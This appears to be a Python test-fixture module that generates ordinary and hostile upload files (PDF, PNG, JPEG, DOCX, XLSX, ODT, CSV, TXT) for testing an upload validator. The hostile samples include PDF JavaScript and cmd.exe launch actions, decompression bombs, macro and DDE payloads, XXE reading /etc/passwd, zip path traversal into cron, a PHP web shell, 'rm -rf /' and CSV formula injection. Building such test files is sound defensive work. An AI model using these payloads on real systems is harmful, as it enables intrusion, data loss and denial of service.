"""Files for the upload tests, made on the spot: good ones as people really have them, and hostile ones."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MAIN = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
}
ODT = "application/vnd.oasis.opendocument.text"


def pdf(change=lambda made: None, **save) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(612, 792))
    made.pages[0].Contents = made.make_stream(b"BT /F1 12 Tf 72 720 Td (Minutes) Tj ET")
    change(made)
    kept = io.BytesIO()
    made.save(kept, deterministic_id="encryption" not in save, **save)
    return kept.getvalue()


def picture(kind: str, size=(40, 30), mode="RGB", **save) -> bytes:
    kept = io.BytesIO()
    Image.new(mode, size, 120).save(kept, kind, **save)
    return kept.getvalue()


def png_of_claimed_size(width: int, height: int) -> bytes:
    """A few bytes that claim to be a huge picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    rows = zlib.compress(bytes(1 + width // 8) * 2000)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


def package(parts: dict[str, bytes | str], stored=("mimetype",)) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in parts.items():
            made.writestr(name, part, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return kept.getvalue()


def office_open(
    kind: str, more: dict[str, bytes | str] | None = None, main_type: str = "", body: str = ""
) -> bytes:
    part, given = MAIN[kind]
    root = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Minutes</w:t></w:r></w:p>{body}</w:body></w:document>'
    if kind == "xlsx":
        root = f'<workbook xmlns="{SHEET}"><sheets/>{body}</workbook>'
    return package(
        {
            "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/{part}" ContentType="{main_type or given}"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="{part}"/></Relationships>',
            part: f'<?xml version="1.0" encoding="UTF-8"?>{root}',
            **(more or {}),
        }
    )


def outside(kind: str) -> str:
    """A relation that is fetched when the file is opened."""
    return f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="http://198.51.100.7/x" TargetMode="External"/></Relationships>'


def open_document(more: dict[str, bytes | str] | None = None, body: str = "", mimetype: str = ODT) -> bytes:
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text><text:p>Minutes</text:p>{body}</office:text></office:body></office:document-content>'
    )
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return package(
        {"mimetype": mimetype, "content.xml": content, "META-INF/manifest.xml": manifest, **(more or {})}
    )


def good() -> Iterator[tuple[str, bytes]]:
    """What people at a city hall bring."""
    yield "Minutes.pdf", pdf()
    yield (
        "Minutes with a link.pdf",
        pdf(lambda made: _annotate(made, A=Dictionary(S=Name.URI, URI=String("https://lacombe.ca/")))),
    )
    yield "Object streams.pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "Linear.PDF", pdf(linearize=True)
    yield (
        "Opens at its first page.pdf",
        pdf(lambda made: made.Root.__setattr__("OpenAction", Array([made.pages[0].obj, Name.Fit]))),
    )
    yield "Crest.png", picture("PNG")
    yield "Crest with transparency.png", picture("PNG", mode="RGBA")
    yield "Grey.png", picture("PNG", mode="L")
    yield "Black and white.png", picture("PNG", mode="1")
    yield "Palette.png", picture("PNG", mode="P")
    yield "Photograph.jpg", picture("JPEG")
    yield "Photograph.jpeg", picture("JPEG", size=(3000, 2000))
    yield "For print.jpg", picture("JPEG", mode="CMYK")
    yield "Letter.docx", office_open("docx")
    yield (
        "Letter with a link.docx",
        office_open("docx", {"word/_rels/document.xml.rels": outside("hyperlink")}),
    )
    yield "Budget.xlsx", office_open("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\x00\x01" * 50})
    yield "Agreement.odt", open_document()
    yield "Notes.txt", b"Twin cities since 1959.\nNext visit in May.\n"
    yield "Notas.txt", "Mazatlán, ñandú, “comillas” — Чернівці, 北海道".encode()
    yield "Old notes.txt", "Mazatlán, “curly”".encode("cp1252")
    yield "Wide notes.txt", "Mazatlán".encode("utf-16")
    yield "Budget.csv", b'year,amount,phone\r\n2026,-1200.50,+1 (403) 782-6666\r\n2027,"12,000",-\r\n'
    yield "Haushalt.csv", b"Jahr;Betrag\n2026;1.200,50\n"
    yield "قرار المجلس.pdf", pdf()


def _annotate(made: pikepdf.Pdf, **action) -> None:
    made.pages[0].Annots = Array(
        [
            made.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), **action)
            )
        ]
    )


def _root(**entries):
    def change(made: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            made.Root[f"/{key}"] = value

    return change


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["payload.exe"] = b"MZ\x90\x00"


def _code() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _hostile_pdf() -> Iterator[tuple[str, bytes]]:
    yield "html with pdf inside.pdf", b"<html><script>alert(1)</script>%PDF-1.4</html>"
    yield "pdf head on html.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>"
    yield "html before a whole pdf.pdf", b"<html><!--" + pdf()
    yield "locked.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u"))
    yield (
        "locked for printing.pdf",
        pdf(
            encryption=pikepdf.Encryption(owner="o", user="", allow=pikepdf.Permissions(print_highres=False))
        ),
    )
    yield "runs at opening.pdf", pdf(_root(OpenAction=_code()))
    yield "launches.pdf", pdf(_root(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe"))))
    yield (
        "named script.pdf",
        pdf(_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _code()]))))),
    )
    yield "script on a link.pdf", pdf(lambda made: _annotate(made, A=_code()))
    yield (
        "script in a chain.pdf",
        pdf(
            lambda made: _annotate(
                made, A=Dictionary(S=Name.URI, URI=String("https://x.ca"), Next=Array([_code()]))
            )
        ),
    )
    yield "script at closing.pdf", pdf(_root(AA=Dictionary(WC=_code())))
    yield (
        "script in object stream.pdf",
        pdf(
            lambda made: made.Root.__setattr__("OpenAction", made.make_indirect(_code())),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
    )
    yield (
        "sends a form.pdf",
        pdf(lambda made: _annotate(made, A=Dictionary(S=Name.SubmitForm, F=String("http://198.51.100.7/")))),
    )
    yield "carries a program.pdf", pdf(_attach)
    yield (
        "pinned file.pdf",
        pdf(
            lambda made: _annotate(
                made, FS=Dictionary(Type=Name.Filespec, EF=Dictionary(F=made.make_stream(b"MZ")))
            )
        ),
    )
    yield "xfa form.pdf", pdf(_root(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array([]))))
    yield "cut off.pdf", pdf()[:300]
    yield "no page.pdf", _without_pages()
    yield "bomb in an object stream.pdf", _pdf_bomb()


def _without_pages() -> bytes:
    kept = io.BytesIO()
    pikepdf.new().save(kept)
    return kept.getvalue()


def _pdf_bomb() -> bytes:
    """An object stream that unpacks to 400 MB."""
    packer = zlib.compressobj(9)
    packed = (
        b"".join(packer.compress(b"1 0 " + b" " * (1024**2 - 4)) for _megabyte in range(400)) + packer.flush()
    )
    stream = (
        b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n"
        % (len(packed), packed)
    )
    head = b"%PDF-1.5\n"
    table_at = len(head) + len(stream)
    rows = b"".join(
        [
            struct.pack(">BLB", 0, 0, 255),
            struct.pack(">BLB", 2, 2, 0),
            struct.pack(">BLB", 1, len(head), 0),
            struct.pack(">BLB", 1, table_at, 0),
        ]
    )
    return (
        head
        + stream
        + b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (len(rows), rows, table_at)
    )


def _hostile_pictures() -> Iterator[tuple[str, bytes]]:
    yield "20,000 by 20,000.png", png_of_claimed_size(20_000, 20_000)
    yield "just too many.png", png_of_claimed_size(8_000, 5_001)
    yield "cut off.png", picture("PNG")[:60]
    yield "only a head.png", b"\x89PNG\r\n\x1a\n" + b"<script>alert(1)</script>"
    yield "jpeg called png.png", picture("JPEG")
    yield "png called jpg.jpg", picture("PNG")
    yield "gif called png.png", picture("GIF")
    yield "program called png.png", b"MZ\x90\x00" + bytes(200)
    yield "drawing called png.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield (
        "postscript called jpg.jpg",
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file\n",
    )
    yield "cut off.jpg", picture("JPEG", size=(400, 300))[:200]


def _hostile_packages() -> Iterator[tuple[str, bytes]]:
    yield "macros.docx", office_open("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield (
        "macro type.docx",
        office_open("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    yield "macro sheet.xlsx", office_open("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"})
    yield "active x.docx", office_open("docx", {"word/activeX/activeX1.xml": "<x/>"})
    yield "file inside.docx", office_open("docx", {"word/embeddings/oleObject1.docx": b"PK"})
    yield (
        "template from elsewhere.docx",
        office_open("docx", {"word/_rels/settings.xml.rels": outside("attachedTemplate")}),
    )
    yield (
        "picture from elsewhere.docx",
        office_open("docx", {"word/_rels/document.xml.rels": outside("image")}),
    )
    yield (
        "dde.docx",
        office_open(
            "docx", body='<w:p><w:instrText xml:space="preserve">DDEAUTO c:\\cmd.exe</w:instrText></w:p>'
        ),
    )
    yield (
        "dde.xlsx",
        office_open(
            "xlsx",
            {
                "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd"/></externalLink>'
            },
        ),
    )
    yield "sheet called letter.docx", office_open("xlsx")
    yield "letter called sheet.xlsx", office_open("docx")
    yield "any archive.docx", package({"a.txt": "hello"})
    yield "bomb.docx", office_open("docx", {"word/media/image1.png": bytes(60 * 1024**2)})
    yield "many parts.docx", office_open("docx", {f"word/a{number}.xml": "<a/>" for number in range(3100)})
    yield "climbs.docx", office_open("docx", {"../../etc/cron.d/x": "* * * * * root id"})
    yield (
        "laughs.docx",
        office_open(
            "docx", {"word/a.xml": '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'}
        ),
    )
    yield (
        "outside entity.docx",
        office_open(
            "docx", {"word/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
        ),
    )
    yield "tail.docx", office_open("docx") + b"<script>alert(1)</script>"
    yield "head.docx", b"<script>alert(1)</script>" + office_open("docx")
    yield "damaged.xlsx", _with_a_wrong_byte(office_open("xlsx"))
    yield "old word.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "basic.odt", open_document({"Basic/Standard/Module1.xml": "<x/>"})
    yield (
        "listener.odt",
        open_document(
            body='<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>'
        ),
    )
    yield "object.odt", open_document(body='<draw:object-ole xlink:href="./x"/>')
    yield (
        "locked.odt",
        open_document(
            {"META-INF/manifest.xml": '<m:manifest xmlns:m="urn:x"><m:encryption-data/></m:manifest>'}
        ),
    )
    yield "sheet called text.odt", open_document(mimetype="application/vnd.oasis.opendocument.spreadsheet")


def _with_a_wrong_byte(content: bytes) -> bytes:
    at = content.index(b"xl/workbook.xml") + len("xl/workbook.xml") + 20
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


def _hostile_texts() -> Iterator[tuple[str, bytes]]:
    yield "page.txt", b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"
    yield "late script.txt", b"Minutes of the meeting\n" * 200 + b"<script src=//198.51.100.7></script>"
    yield "shell.txt", b"#!/bin/sh\nrm -rf /\n"
    yield "php.txt", b"Minutes <?php system($_GET['c']); ?>"
    yield "program.txt", b"\x7fELF" + bytes(100)
    yield "pdf called text.txt", pdf()
    yield "nul.csv", b"a,b\n1,\x00\n"
    yield "calls.csv", b"name,amount\n=cmd|' /C calc'!A0,1\n"
    yield "quoted formula.csv", b'name,amount\n"=HYPERLINK(""http://198.51.100.7/"",""x"")",1\n'
    yield "sum.csv", b"name,amount\n@SUM(1+1)*cmd|' /C calc'!A0,1\n"
    yield "page.csv", b"<html><table><tr><td>1</td></tr></table></html>"


def _hostile_names() -> Iterator[tuple[str, bytes]]:
    yield "empty.pdf", b""
    yield "blank.txt", b" \n\t\n"
    yield "page.html", b"<html></html>"
    yield "drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    yield "minutes.pdf.exe", pdf()
    yield "minutes.pdf.", b"MZ\x90\x00"
    yield "no ending", pdf()
    yield ".pdf", pdf()
    yield "minutes\u202efdp.exe", pdf()
    yield "letter.docm", office_open("docx")
    yield "letter.doc", office_open("docx")
    yield "tool.zip", package({"a.txt": "a"})


def hostile() -> Iterator[tuple[str, bytes]]:
    """What must never be kept."""
    for make in (_hostile_pdf, _hostile_pictures, _hostile_packages, _hostile_texts, _hostile_names):
        yield from make()
